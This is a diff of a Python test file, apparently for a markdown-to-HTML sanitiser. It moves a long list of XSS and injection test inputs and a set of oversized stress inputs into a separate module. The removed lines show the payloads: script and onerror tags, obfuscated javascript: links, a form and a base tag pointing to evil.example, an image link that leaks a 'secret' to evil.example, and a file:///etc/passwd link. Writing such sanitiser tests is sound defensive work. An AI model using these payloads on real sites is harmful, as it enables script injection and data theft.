@@ -6,6 +6,7 @@ import time
 from html.parser import HTMLParser
 
 import pytest
+from attacks import ATTACKS, LARGE, X
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
@@ -166,110 +167,6 @@ def harm(text: str) -> list[str]:
         judge.close()
         found += [f"{name}: {what}" for what in judge.found]
     return found
-
-
-X = "<img src=x onerror=alert(1)>"
-ATTACKS = [
-    X,
-    "<script>alert(1)</script>",
-    "<style>*{display:none}</style>",
-    "<base href=//evil.example>",
-    "<form action=//evil.example><input></form>",
-    "<!-- c --> <![CDATA[x]]> <?php x ?> <!DOCTYPE html>",
-    f"<!--\n{X}\n-->",
-    "<div\nonclick=alert(1)>",
-    f"- {X}\n\n      {X}",
-    f"    {X}",
-    f"\t{X}",
-    f"text\n    {X}",
-    f"a\x0b{X}\x0c{X}\u2028{X}\x85{X}\x00{X}",
-    "![x](https://evil.example/?q=secret)",
-    "![x][y]\n\n[y]: https://evil.example/",
-    "![x]\n\n[x]: https://evil.example/",
-    "!![x](https://evil.example/)",
-    "\\![x](data:image/png;base64,AAAA)",
-    "![x](data:image/svg+xml;base64,AAAA)",
-    "![x](attachment:a.png)",
-    '![$" onerror=alert(1) x="$](data:image/png;base64,AAAA)',
-    "[a](javascript:alert(1))",
-    "[a](JaVaScRiPt:alert(1))",
-    "[a](<javascript:alert(1)>)",
-    "[a](\njavascript:alert(1))",
-    "> [a](\n> javascript:alert(1))",
-    "> [a](\njavascript:alert(1))",
-    "[a](javascript&#58;alert(1))",
-    "[a](javascript&colon;alert(1))",
-    "[a](java&Tab;script:alert(1))",
-    "[a](java&#115;cript:alert(1))",
-    "[a](&#000000000000106;avascript:alert(1))",
-    "[a](java\\script:alert(1)) [b](javascript\\:alert(1))",
-    "[a](\x01javascript:alert(1)) [b](java\x00script:alert(1))",
-    "[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x) [c](file:///etc/passwd)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "[x]: <javascript:alert(1)>\n\n[x]",
-    "[x]:\n  javascript:alert(1)\n\n[x]",
-    "[x]:  \njavascript:alert(1)\n\n[x]",
-    "> [x]: javascript:alert(1)\n\n[x]",
-    "- [x]: javascript:alert(1)\n\n[x]",
-    "[a\nb]: javascript:alert(1)\n\n[a b]",
-    "<javascript:alert(1)> <https://a.example/> <a@b.example>",
-    "\\\\[ x \\\\](javascript:alert(1))",
-    '[x](http://a.example/$ " onmouseover=alert(1) x="$)',
-    'http://a.example/$"onmouseover=alert(1)//$',
-    '[x](/u "@\\@0@@") $" onmouseover=alert(1) x="$',
-    f"$a ` $ {X}\n`",
-    f"`\\begin{{a}}` \\end{{a}} `{X}`",
-    f"`$` $ `{X}`",
-    f"costs $5 and `$x` or `{X}`",
-    f"`$$`\n\n```\n$$ {X}\n```",
-    f"$$\n\n```\n$$ {X}\n```",
-    f"# $$\na $$\n\n```\n$$ {X}\n```",
-    f"> q\n$$\n- x\n$$\n\n  ```\n  $$ {X}\n  ```",
-    f"```\n\\begin{{a}}\n```\n\\end{{a}}\n```\n{X}",
-    f"> $a\n>\n> ```\n> $ {X}\n> ```",
-    f"| `a | {X} b` |\n|---|---|\n| `a | {X} b` | c |",
-    f"| a | b |\n|---|---|\n| `a | b` `{X}` |",
-    f"[a](/u '`'){X}`",
-    f"[a](<`>){X}`",
-    f"http://a.example/`{X}`",
-    f"<1`@a.example>{X}`",
-    f"~~a `~~ {X}`",
-    f"*a `* {X}`",
-    f"[a `]({X}) `",
-    f"\\`{X}`",
-    f"`a\n{X}`",
-    f"``a` {X}``",
-    f"- ```html\n{X}\n  ```",
-    f"1. > ```\n   > {X}\n   > ```\n{X}",
-    f"- > ~~~\n{X}\n  > ~~~",
-    f"  > ```\n> {X}\n  > ```",
-    f"> ```\n{X}\n> ```",
-    f"text\n      ```\n{X}\n      ```",
-    f"\t```\n{X}\n\t```",
-    f"```\n{X}\n``` x\n{X}\n```\n{X}",
-    f"~~~\n```\n~~~\n{X}\n```",
-    f"```{X}\n```",
-    f"``` a`b\n{X}\n```",
-    f"```mermaid\n{X}\n```",
-    f"text\n  \n```\n{X}\n```\n\n: definition",
-    f'[x]: /u "\n\n```\n"\n{X}\n```',
-    f'[x]: /u\n"`{X}`\n"',
-    f"[^1]: {X}\n",
-    "@@0@@ @\\@0@@ $x$",
-    "@@00@$x$ @\\@7@$x$ @@8$x$ @@0@@9@$x$",
-    "- ```\n  @@00@$x$\n  ```",
-    f"{X}\n===\n\n{X}\n---",
-    f"term\n: {X}\n: ```\n  {X}\n  ```",
-    f"term\n: a\n\n  ```\n  : {X}\n  ```",
-    f"`\u2028{X}`\n: a",
-    f"~`{X}`",
-    f"[\n\n```\n]: x\n{X}\n```",
-    f"[@\\\\[]\\\\]\n\n```\n]: x\n{X}\n```",
-    f"x=$)$$\n\n```\n$$ {X}\n```",
-    f"    code\n\n  ```\n  {X}\n  ```",
-    f"-     code\n\n    ```\n    - {X}\n    ```",
-    "&ftp://a.example http://a.example/![x](data:image/png;base64,AAAA)",
-]
 
 
 @pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))
@@ -485,21 +382,6 @@ def test_a_message_is_one_harmless_line() -> None:
 @pytest.mark.parametrize("text", ["2 models: a_b (c) 50% #1", "Error code 429: {'type': \"x\"}", r"C:\a\b <x> $5 `y`"])
 def test_a_message_shows_what_it_says(text: str) -> None:
     assert html.unescape(inline_text(text)) == text
-
-
-LARGE = {
-    "one line": "a `b` <c> [d](e) $f$ " * 40_000,
-    "backticks": "` " * 200_000,
-    "openers": "\\begin{a}" * 60_000,
-    "brackets": "[" * 300_000 + "](" * 100_000,
-    "quotes": "\n".join(">" * 5_000 for _ in range(50)),
-    "lists": "- " * 5_000 + "a",
-    "deep lists": "\n".join("  " * depth + "- a" for depth in range(1_000)),
-    "rows": "| a | b |\n|---|---|\n" + "| `a<b>` | <c> |\n" * 100_000,
-    "fences": "```\n" * 60_001,
-    "spaces": "](a" + " " * 500_000,
-    "signs": "!" * 200_000 + "<" * 200_000 + "\\" * 200_000 + "~" * 200_000 + "&#" + "1" * 200_000,
-}
 
 
 @pytest.mark.parametrize("name", LARGE)
